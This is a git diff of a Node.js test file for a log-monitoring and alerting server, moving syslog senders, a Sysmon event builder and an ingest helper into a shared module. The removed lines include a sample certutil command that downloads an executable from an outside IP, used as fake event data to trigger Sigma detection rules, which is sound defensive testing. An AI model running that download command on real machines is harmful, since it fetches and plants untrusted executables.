@@ -4,16 +4,13 @@
 // closed with a suppression, and kept across a restart without being evaluated twice.
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import dgram from 'node:dgram';
 import fs from 'node:fs';
-import net from 'node:net';
-import path from 'node:path';
 
 import { api, freePort, startServer, login } from '../lib/server.mjs';
 import { makeUser, orgIdsByCode, runVigil } from '../lib/api_helpers.mjs';
+import { CERTUTIL, CERTUTIL_CMD, SIGMA_RULES, octet, postIngest, rfc5424, sendTcp as sendTcpTo, sendUdp as sendUdpTo, sysmonProcess as sysmonObject } from '../lib/monitoring.mjs';
 
-const SHARED = process.env.VIGIL_SHARED_DIR || path.resolve('..', 'shared');
-const RULES = path.join(SHARED, 'data', 'sigma', 'rules');
+const RULES = SIGMA_RULES;
 
 let srv, U, admin, org, udpPort, tcpPort, sourceToken;
 
@@ -57,25 +54,6 @@ async function alerts(token = admin.token, query = '') {
   return r.json.items;
 }
 
-function sendUdp(message) {
-  return new Promise((resolve, reject) => {
-    const s = dgram.createSocket('udp4');
-    s.send(Buffer.from(message), udpPort, '127.0.0.1', (err) => {
-      s.close();
-      if (err) reject(err);
-      else resolve();
-    });
-  });
-}
-
-function sendTcp(frames) {
-  return new Promise((resolve, reject) => {
-    const c = net.connect(tcpPort, '127.0.0.1', () => c.end(frames));
-    c.on('close', resolve);
-    c.on('error', reject);
-  });
-}
-
 // An RFC 3164 stamp ("Nov 21 09:05:03") in Vietnam time, the zone the server assumes for them.
 function bsdStamp() {
   const d = new Date(Date.now() + 7 * 3600e3);
@@ -83,32 +61,10 @@ function bsdStamp() {
   const pad = (n) => String(n).padStart(2, '0');
   return `${mon} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
 }
-const octet = (msg) => `${Buffer.byteLength(msg)} ${msg}`;
-const rfc5424 = (host, app, msg) => `<38>1 ${new Date().toISOString()} ${host} ${app} 4242 - - ${msg}`;
-
-function sysmonProcess(computer, image, commandLine) {
-  return JSON.stringify({
-    Event: {
-      System: {
-        EventID: 1,
-        Channel: 'Microsoft-Windows-Sysmon/Operational',
-        Computer: computer,
-        TimeCreated: { '#attributes': { SystemTime: new Date().toISOString() } },
-      },
-      EventData: { Image: image, CommandLine: commandLine, ParentImage: 'C:\\Windows\\System32\\cmd.exe' },
-    },
-  });
-}
-const CERTUTIL = 'C:\\Windows\\System32\\certutil.exe';
-const CERTUTIL_CMD = 'certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe';
-
-function ingest(token, body) {
-  return fetch(`${U}/api/v1/ingest`, {
-    method: 'POST',
-    headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/x-ndjson' },
-    body,
-  }).then(async (r) => ({ status: r.status, json: await r.json().catch(() => null) }));
-}
+const sendUdp = (message) => sendUdpTo(udpPort, message);
+const sendTcp = (frames) => sendTcpTo(tcpPort, frames);
+const sysmonProcess = (computer, image, commandLine) => JSON.stringify(sysmonObject(computer, image, commandLine));
+const ingest = (token, body) => postIngest(U, token, body);
 
 describe('registering the sources and assets', () => {
   test('a log source gets a token shown once; only admins register sources', async () => {
